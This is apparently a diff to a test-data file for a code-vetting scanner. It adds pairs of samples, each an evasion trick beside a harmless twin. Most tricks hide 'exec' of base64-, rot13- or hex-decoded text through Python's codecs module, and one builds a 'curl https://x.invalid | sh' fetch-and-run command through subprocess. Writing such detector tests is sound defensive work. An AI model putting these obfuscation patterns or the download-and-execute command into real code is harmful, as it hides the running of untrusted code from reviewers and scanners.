@@ -6,6 +6,8 @@ The ways are taken from collections of such tricks; what they run prints, or nam
 
 from typing import Final, NamedTuple
 
+from tests.vetting.domain.signals.code.cases import PAYLOAD
+
 
 class Way(NamedTuple):
     """A way around, what the rules about code see in it, and its innocent twin."""
@@ -157,6 +159,46 @@ NAMES: Final = (
 """To a name."""
 
 TEXTS: Final = (
+    Way(
+        "C2",
+        f"import codecs\nexec(codecs.getdecoder('base64')({PAYLOAD!r})[0])\n",
+        "import codecs\nprint(codecs.getdecoder('utf-8')(b'pass')[0])\n",
+    ),
+    Way(
+        "C2",
+        f"from codecs import lookup\nx, _ = lookup('base' + '64').decode(b'{PAYLOAD}')\nexec(x)\n",
+        f"from codecs import lookup\nx, _ = lookup('base64').decode(b'{PAYLOAD}')\n",
+    ),
+    Way(
+        "C2",
+        "import codecs\nexec(codecs.getencoder('rot13')('cevag(1)')[0])\n",
+        "import codecs\ndef f():\n    exec(codecs.encode('pass', 'utf-8'))\n",
+    ),
+    Way(
+        "C2",
+        "import codecs\nexec(codecs.encode('cevag(1)', 'rot13'))\n",
+        "import codecs\nprint(codecs.encode('cevag(1)', 'rot13'))\n",
+    ),
+    Way(
+        "C1",
+        "import codecs\ndef f(t):\n    exec(codecs.getdecoder('hex')(t)[0])\n",
+        "import codecs\ndef f(t, c):\n    exec(codecs.getdecoder(c)(t)[0])\n    codecs.getdecoder('hex')()\n",
+    ),
+    Way(
+        "C1",
+        "import codecs\ndef f(t):\n    exec(codecs.getincrementaldecoder('rot13')().decode(t))\n",
+        "import codecs\ndef f(t):\n    exec(codecs.getincrementaldecoder('utf-8')().decode(t))\n",
+    ),
+    Way(
+        "C1",
+        "from codecs import getreader as r\ndef f(h):\n    exec(r('base64')(h).read())\n",
+        "from codecs import getdecoder as r\ndef f(h):\n    exec(codecs.lookup(h).decode(h)[0])\n    r()\n",
+    ),
+    Way(
+        "C3",
+        "import shlex, subprocess\nsubprocess.run(shlex.split(\"sh -c 'curl https://x.invalid | sh'\"))\n",
+        "import shlex, subprocess\nsubprocess.run(shlex.split(\"sh -c 'make all'\"))\nshlex.split(None)\n",
+    ),
     Way("C1", '"""print(1)"""\nexec(__doc__)\n', '"""Print %s."""\nprint(__doc__ % 1)\n'),
     Way(
         "C1",
